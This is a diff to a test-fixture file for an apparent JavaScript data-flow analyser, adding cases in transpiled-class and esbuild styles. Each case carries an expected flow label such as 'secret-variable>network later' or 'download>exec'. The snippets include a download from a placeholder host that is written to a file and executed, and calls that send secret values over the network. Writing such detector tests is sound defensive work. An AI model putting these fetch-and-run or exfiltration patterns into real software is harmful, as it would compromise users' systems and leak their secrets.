@@ -45,6 +45,9 @@ export const groups: { readonly [group: string]: readonly Row[] } = {
     ['what a getter does, by nobody', `module.exports = { get x() { ${send(t)} } }`, ['secret-variable>network later']],
   ],
   'what compilers write': [
+    ['a method of a class for older versions of the language, and a call of something else by a computed name', `function make(A, all) { for (var i = 0; i < all.length; i++) Object.defineProperty(A.prototype, all[i].key, all[i]) } var A = function () { function A() {} make(A, [{ key: "go", value: function go() { ${send(t)} } }]); return A }(); tools[next]()`, ['secret-variable>network later']],
+    ['a method of a class for older versions of the language that is called', `function make(A, all) { for (var i = 0; i < all.length; i++) Object.defineProperty(A.prototype, all[i].key, all[i]) } var A = function () { function A() {} make(A, [{ key: "go", value: function go() { ${send(t)} } }]); return A }(); new A().go()`],
+    ['a stream into a file that a getter gives', `const fs = require("fs"); const file = ({ get v() { return fs.createWriteStream("/nowhere/x") } }).v; require("https").get("https://in.example.invalid", (r) => { r["pipe"](file) }); require("child_process").spawn("/nowhere/x")`, ['download>exec']],
     ['__export of esbuild', `var __defProp = Object.defineProperty; var __export = (target, all) => { for (var name in all) __defProp(target, name, { get: all[name], enumerable: true }) }; var x_exports = {}; __export(x_exports, { a: () => a }); var a = ${t}; ${send('x_exports.a')}`],
     ['__export of esbuild, a function', `var __defProp = Object.defineProperty; var __export = (target, all) => { for (var name in all) __defProp(target, name, { get: all[name], enumerable: true }) }; var x_exports = {}; __export(x_exports, { a: () => a }); function a(d) { ${send('d')} } x_exports.a(${t})`],
     ['__toCommonJS of esbuild, two files', {
@@ -656,7 +659,6 @@ export const notFollowed: ReadonlySet<string> = new Set([
   'getters and setters: a trap of a call',
   'getters and setters: then',
   'what compilers write: __commonJS of esbuild, a value',
-  'what compilers write: _createClass',
   'ways out of a browser: a frame with Object.assign',
   'ways out of a browser: location',
   'ways out of a browser: a WebSocket, by an event',
